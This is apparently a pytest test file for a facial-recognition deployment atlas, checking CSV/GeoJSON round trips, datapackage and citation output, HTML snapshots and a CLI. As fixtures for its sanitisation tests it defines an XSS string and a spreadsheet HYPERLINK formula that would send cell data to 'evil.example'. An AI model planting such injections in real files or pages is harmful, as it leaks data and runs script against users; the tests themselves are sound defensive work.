"""CSV/GeoJSON round trips through the loader, the datapackage, the citation, and the CLI."""

import csv
import io
import json
from datetime import date

import pytest
import synthetic

from geo import schema, snapshot
from geo.citation import citation, data_version
from geo.export import datapackage, to_csv, to_geojson
from geo.filters import Filters, apply_filters, build_vocabulary, selection_sentence, year_bounds
from geo.load import load_atlas, read_deployments
from geo.mapdata import assign_colors
from geo.snapshot_html import embed_code, snapshot_html
from geo.validate import DATA_DIR, CountryIndex
from geo.versions import is_dated_version, release_missing

HOSTILE = "</script><script>alert(1)</script>${x}`"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


def comparable(frame):
    columns = list(schema.DEPLOYMENT_FIELD_NAMES)
    rows = frame[columns].to_dict("records")
    for row, point in zip(rows, frame.geometry):
        row["xy"] = (round(point.x, 6), round(point.y, 6))
        for key in ("year_end", "cameras"):
            row[key] = None if row[key] is None or str(row[key]) == "<NA>" else int(row[key])
    return sorted(rows, key=lambda r: r["id"])


@pytest.fixture
def rich_atlas(tmp_path):
    features = synthetic.deployments()
    features[0]["properties"]["sources"].append(
        {**synthetic.source(2), "quote": 'He said "no; never", twice, ' + HOSTILE}
    )
    features[1]["properties"]["description"] = "Line one,\nline two; with, commas"
    features[2]["properties"]["name"] = FORMULA
    features[2]["properties"]["operator"] = "'=already quoted"
    features[3]["properties"]["description"] = "-2 cameras, +3 gates"
    features[3]["properties"]["sources"][0]["title"] = "@SUM(A1:A9)"
    features[1]["properties"]["vendor_roles"] = {"acme": "camera maker", "bolt": "face-recognition software"}
    features[4]["properties"]["history"] = [
        {"year": 2016, "status": "operational", "source": 0},
        {"year": 2021, "status": "suspended", "source": 0},
    ]
    return load_atlas(synthetic.write_dataset(tmp_path / "data", features))


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
def test_exports_load_back_without_losing_a_field(rich_atlas, tmp_path, fmt):
    text = to_csv(rich_atlas.deployments) if fmt == "csv" else to_geojson(rich_atlas.deployments)
    path = tmp_path / f"out.{fmt}"
    path.write_text(text, encoding="utf-8")
    index = CountryIndex(synthetic.countries_geojson()["features"])
    loaded, problems = read_deployments(path, set(rich_atlas.vendors["id"]), index)
    assert problems == []
    assert comparable(loaded) == comparable(rich_atlas.deployments)


def test_csv_cells_never_start_a_spreadsheet_formula(rich_atlas):
    rows = list(csv.reader(io.StringIO(to_csv(rich_atlas.deployments))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(A1:A9)" in cells and "''=already quoted" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not is_number(cell))]


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_is_readable(rich_atlas):
    header, first = to_csv(rich_atlas.deployments).splitlines()[:2]
    assert header.startswith(
        "\ufeffid,kind,name,place,country,country_name,precision,vendors,vendor_names,vendor_roles,operator,sectors"
    )
    assert "source2_quote" in header and "source2_kind" in header
    airport = [line for line in to_csv(rich_atlas.deployments).splitlines() if line.startswith("aa-airport")][0]
    assert "acme; bolt" in airport


def test_csv_opens_as_utf8_with_a_bom_with_names_beside_ids_and_loads_back(rich_atlas, tmp_path):
    path = tmp_path / "out.csv"
    path.write_bytes(to_csv(rich_atlas.deployments, rich_atlas.country_names).encode("utf-8"))
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # what Excel needs to read UTF-8
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    airport = next(r for r in rows if r["id"] == "aa-airport")
    assert airport["vendor_names"] == "Acme Vision; Bolt AI" and airport["country_name"] == "Aland"
    assert airport["source2_kind"] == "primary"
    loaded, problems = read_deployments(
        path, set(rich_atlas.vendors["id"]), CountryIndex(synthetic.countries_geojson()["features"])
    )
    assert problems == [] and comparable(loaded) == comparable(rich_atlas.deployments)


def test_datapackage_describes_every_field_and_the_shipped_one_is_current():
    package = datapackage("abc")
    names = [f["name"] for f in package["resources"][0]["schema"]["fields"]]
    assert names == list(schema.DEPLOYMENT_FIELD_NAMES)
    resources = {r["name"]: r for r in package["resources"]}
    assert [f["name"] for f in resources["vendors"]["schema"]["fields"]] == list(schema.VENDOR_FIELD_NAMES)
    outlines = json.loads((DATA_DIR / "countries.geojson").read_text())["features"]
    assert {f["name"] for f in resources["countries"]["schema"]["fields"]} == {
        k for f in outlines for k in f["properties"]
    }
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    shipped = json.loads((DATA_DIR / "datapackage.json").read_text())
    assert shipped == datapackage(data_version(DATA_DIR)), (
        "run: python -m geo.export to regenerate data/datapackage.json"
    )


def test_data_version_changes_with_the_data(data_dir):
    before = data_version(data_dir)
    assert before == data_version(data_dir) and before.startswith("unreleased+")
    rows = (data_dir / "vendors.csv").read_text().replace("Makes cameras.", "Makes cameras and software.")
    (data_dir / "vendors.csv").write_text(rows)
    assert data_version(data_dir) != before


def test_the_shipped_data_is_a_dated_release_and_the_datapackage_carries_it():
    assert is_dated_version(data_version(DATA_DIR)), release_missing(DATA_DIR)
    assert json.loads((DATA_DIR / "datapackage.json").read_text())["version"] == data_version(DATA_DIR)


def test_citation_names_project_version_view_link_and_date():
    text = citation("Showing 2 of 5 deployments: vendor Bolt AI", "http://h/?vendor=bolt", "abc123", date(2026, 11, 22))
    assert text == (
        "Facial Recognition Atlas (data version abc123). Showing 2 of 5 deployments: vendor Bolt AI. "
        "http://h/?vendor=bolt. Retrieved 2026-11-22."
    )


def test_snapshot_html_is_self_contained_and_escapes_text(rich_atlas):
    page = snapshot_html(
        rich_atlas.deployments,
        rich_atlas.countries,
        assign_colors(rich_atlas.deployments),
        rich_atlas.vendor_names,
        rich_atlas.country_names,
        title="T <b>",
        sentence=HOSTILE,
        citation="C",
    )
    assert "<script src" not in page and "<link" not in page and "https://cdn" not in page
    assert page.count("</script>") == 2  # only the two script elements the template opens
    assert "T &lt;b&gt;" in page
    assert 'onload="' not in embed_code('x" onload="alert(1)', "t")


def test_cli_writes_what_the_app_would_for_the_same_filters(tmp_path, data_dir, capsys):
    out = tmp_path / "out"
    out.mkdir()
    code = snapshot.main(
        [
            "--data-dir",
            str(data_dir),
            "--vendor",
            "acme",
            "--from",
            "2016",
            "--csv",
            str(out / "s.csv"),
            "--geojson",
            str(out / "s.geojson"),
            "--html",
            str(out / "s.html"),
            "--png",
            str(out / "s.png"),
        ]
    )
    assert code == 0
    atlas = load_atlas(data_dir)
    filters = Filters(vendors=("acme",), years=(2016, None))
    selection = apply_filters(atlas.deployments, filters)
    assert (out / "s.csv").read_text() == to_csv(selection, atlas.country_names)
    assert (out / "s.geojson").read_text() == to_geojson(selection)
    meta = json.loads((out / "s.csv-metadata.json").read_text())
    vocabulary = build_vocabulary(atlas, year_bounds(atlas.deployments))
    sentence = selection_sentence(len(selection), 5, filters, vocabulary)
    assert sentence in meta["citation"] and "vendor=acme&from=2016" in meta["citation"]
    assert (out / "s.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert sentence in (out / "s.html").read_text()
    assert sentence in capsys.readouterr().out


@pytest.mark.parametrize(
    "args,message",
    [
        (["--vendor", "nobody", "--csv", "x.csv"], "vendor='nobody' (no deployment by this vendor)"),
        (["--from", "abc", "--csv", "x.csv"], "from='abc'"),
        (["--vendor", "acme"], "nothing to write"),
        (["--png-size", "10x10", "--png", "x.png"], "invalid choice"),
        (["--csv", "/nonexistent-folder/x.csv"], "no such folder for the output: /nonexistent-folder"),
    ],
)
def test_cli_bad_arguments_give_a_clear_message_and_exit_2(args, message, data_dir, capsys):
    with pytest.raises(SystemExit) as exit_info:
        snapshot.main(["--data-dir", str(data_dir), *args])
    assert exit_info.value.code == 2
    assert message in capsys.readouterr().err


def test_cli_reports_an_output_it_cannot_write_without_a_traceback(tmp_path, data_dir, capsys):
    (tmp_path / "taken").mkdir()  # a folder where the CSV should go
    code = snapshot.main(["--data-dir", str(data_dir), "--csv", str(tmp_path / "taken")])
    err = capsys.readouterr().err
    assert code == 2
    assert err.startswith("error: could not write") and str(tmp_path / "taken") in err and "Traceback" not in err
